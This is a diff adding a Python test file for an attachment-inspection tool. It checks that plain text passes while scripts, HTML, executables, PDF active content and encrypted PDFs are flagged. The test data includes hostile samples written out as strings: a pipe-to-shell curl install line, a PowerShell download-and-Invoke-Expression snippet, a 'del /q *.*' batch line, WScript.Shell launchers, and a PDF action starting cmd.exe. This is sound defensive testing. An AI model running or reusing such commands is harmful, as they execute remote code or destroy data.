@@ -1,0 +1,170 @@
+import hashlib
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from consumer.inspection.detection import ALIASES, Detector, squeezed
+from consumer.inspection.examination import examine
+from consumer.inspection.pdf_password import Encryption, encryption
+from consumer.inspection.policy import Policy
+from consumer.model import Facts, Reason
+from tests.inspection.files import attachment, pdf, program
+
+POLICY = Policy.load()
+DETECTOR = Detector()
+
+
+def reason(data: bytes, name: str) -> Reason | None:
+    seen = examine(data, DETECTOR)
+    facts = Facts(size=len(data), detected_type=seen.detected_type, findings=tuple(seen.findings))
+    return POLICY.decide(attachment(name), facts)
+
+
+README = b"""My tool
+=======
+
+Install it:
+
+    $ curl https://example.com/install.sh | sh
+    $x = New-Object Net.WebClient
+
+Then write some JavaScript, for example `eval("1")`:
+
+    function f(a) { return require("b").c(a); }
+
+and run it. `#!/bin/sh` stands at the beginning of scripts. <html> is the beginning of pages.
+Use CreateObject("WScript.Shell") in VBScript only if you must, and @echo off in batch files.
+"""
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        README,
+        b"k",
+        b"ok\n",
+        b"name,amount\na,1\nb,2\nc,3\n",
+        b"Hello, world\n" * 12,
+        b'{"a": [1, 2, 3]}',
+        b"From: a@example.com\nTo: b@example.com\nSubject: hello\n\nHi\n",
+        b"BEGIN:VCARD\nVERSION:3.0\nN:Doe\nEND:VCARD\n",
+        b"2026-01-01 12:00:00,123 INFO started, ok\n" * 30,
+        b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
+        "Grüße aus Köln, 12 €".encode(),
+        "Grüße aus Köln".encode("latin-1"),
+        "Привет, как дела? Посмотрите на файл.".encode("cp1251"),
+        "これはテストの文章です。".encode("shift-jis") * 4,
+        "Grüße".encode("utf-16"),
+        "\ufeffGrüße".encode("utf-16-be"),
+        "Plain notes written by an old tool.\r\n".encode("utf-16-le"),
+        b"page one\x0cpage two\n\x1a",
+        b"\x1b[31mred\x1b[0m\n" * 3,
+        b"<?xml version='1.0'?>\n<note>hi</note>\n",
+        b"x\n" + b"\n" * 100_000,
+    ],
+)
+def test_what_people_write_is_text(data: bytes) -> None:
+    assert reason(data, "a.txt") is None
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (b"#!/bin/sh\necho hello\n", Reason.SCRIPT),
+        (b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", Reason.SCRIPT),
+        (b"@echo off\r\ndel /q *.*\r\n", Reason.SCRIPT),
+        (b"<?php phpinfo();\n", Reason.SCRIPT),
+        (b"$c = New-Object Net.WebClient\n$d = $c.DownloadString('http://e/x')\nInvoke-Expression $d\n", Reason.SCRIPT),
+        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n', Reason.SCRIPT),
+        (b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n', Reason.SCRIPT),
+        ('Set s = CreateObject("WScript.Shell")\r\ns.Run 1\r\n'.encode("utf-16"), Reason.SCRIPT),
+        (b"<!DOCTYPE html><title>x</title>", Reason.CONTENT_NOT_ALLOWED),
+        (b"<html><script>alert(1)</script></html>", Reason.CONTENT_NOT_ALLOWED),
+        (b"<?xml version='1.0'?><svg onload='alert(1)'/>", Reason.CONTENT_NOT_ALLOWED),
+        (b"{\\rtf1 hello}", Reason.CONTENT_NOT_ALLOWED),
+        (program(), Reason.CONTENT_NOT_ALLOWED),
+        (b"text\x00with\x01binary\x02in\x03it" * 9, Reason.CONTENT_NOT_ALLOWED),
+        (b"\0<" * 4096, Reason.UNDETECTABLE),
+        (b"", Reason.EMPTY),
+        (b" \r\n\t" * 50_000, Reason.EMPTY),
+        (b"\0" * 9, Reason.EMPTY),
+    ],
+)
+def test_what_is_no_plain_text_is_rejected_under_a_text_name(data: bytes, expected: Reason) -> None:
+    assert reason(data, "a.txt") is expected
+
+
+@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1))
+def test_any_printable_text_is_no_finding_worse_than_a_script(text: str) -> None:
+    seen = examine(text.encode(), DETECTOR)
+    assert {finding.code for finding in seen.findings} <= {Reason.SCRIPT, Reason.EMPTY, Reason.MALFORMED}
+
+
+@given(st.binary())
+def test_squeezing_keeps_all_but_white_space(data: bytes) -> None:
+    assert squeezed(data).split() == data.split()
+
+
+def test_libmagics_names_are_those_of_every_version() -> None:
+    assert set(ALIASES.values()).isdisjoint(set(ALIASES) - {"application/x-ole-storage"})
+
+
+@pytest.mark.parametrize(
+    ("catalog", "finding"),
+    [
+        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
+        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", "starts a program"),
+        (b"/OpenAction << /S /J#61vaScript /JS (x) >>", "JavaScript"),
+    ],
+)
+def test_active_content_of_a_pdf_is_told_and_accepted(catalog: bytes, finding: str) -> None:
+    seen = examine(pdf(catalog=catalog), DETECTOR)
+    assert any(f.code is Reason.ACTIVE_CONTENT and finding in f.detail for f in seen.findings)
+    assert reason(pdf(catalog=catalog), "a.pdf") is None
+
+
+def test_a_form_is_a_remark() -> None:
+    seen = examine(pdf(catalog=b"/AcroForm << /Fields [] >>"), DETECTOR)
+    assert (seen.findings, seen.flags) == ([], ["form"])
+
+
+def test_a_program_that_is_attached_to_a_pdf_rejects_packed_or_not() -> None:
+    import zlib
+
+    part = b"9 0 obj\n<< /Type /EmbeddedFile %s /Length %d >>\nstream\n%s\nendstream\nendobj\n"
+    plain, packed = program(), zlib.compress(program())
+    assert reason(pdf(part % (b"", len(plain), plain)), "a.pdf") is Reason.EMBEDDED_EXECUTABLE
+    assert reason(pdf(part % (b"/Filter /FlateDecode", len(packed), packed)), "a.pdf") is Reason.EMBEDDED_EXECUTABLE
+
+
+@pytest.mark.parametrize("before", [b"\r\n", b"\xef\xbb\xbf", b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\n", b"junk " * 30])
+def test_a_header_may_stand_a_little_late(before: bytes) -> None:
+    assert reason(before + pdf(), "a.pdf") is None
+
+
+def test_binary_data_before_the_header_is_another_file() -> None:
+    assert reason(bytes(range(1, 100)) + bytes(20) + pdf(), "a.pdf") is Reason.SECOND_FORMAT
+
+
+def protected(user: bytes, salt: bytes = b"12345678") -> bytes:
+    """AES-256 of the first kind (revision 5), which needs no cipher to be tried."""
+    digest = hashlib.sha256(user + salt).digest() + salt + bytes(8)
+    entry = (
+        b"9 0 obj\n<< /Filter /Standard /V 5 /R 5 /StmF /StdCF /StrF /StdCF /U <%s> >>\nendobj\n"
+        % digest.hex().encode()
+    )
+    return pdf(entry, trailer=b"/Encrypt 9 0 R /ID [<00> <00>] ")
+
+
+def test_a_pdf_that_opens_without_a_password_is_only_restricted() -> None:
+    assert encryption(pdf()) is Encryption.NONE
+    assert encryption(protected(b"")) is Encryption.OPENS_FREELY
+    assert reason(protected(b""), "a.pdf") is None
+    assert encryption(protected(b"secret")) is Encryption.NEEDS_PASSWORD
+    assert reason(protected(b"secret"), "a.pdf") is Reason.ENCRYPTED
+
+
+def test_an_encryption_that_nobody_knows_counts_as_a_password() -> None:
+    strange = pdf(b"9 0 obj\n<< /Filter /Own /V 4 /StmF /X >>\nendobj\n", trailer=b"/Encrypt 9 0 R ")
+    assert reason(strange, "a.pdf") is Reason.ENCRYPTED
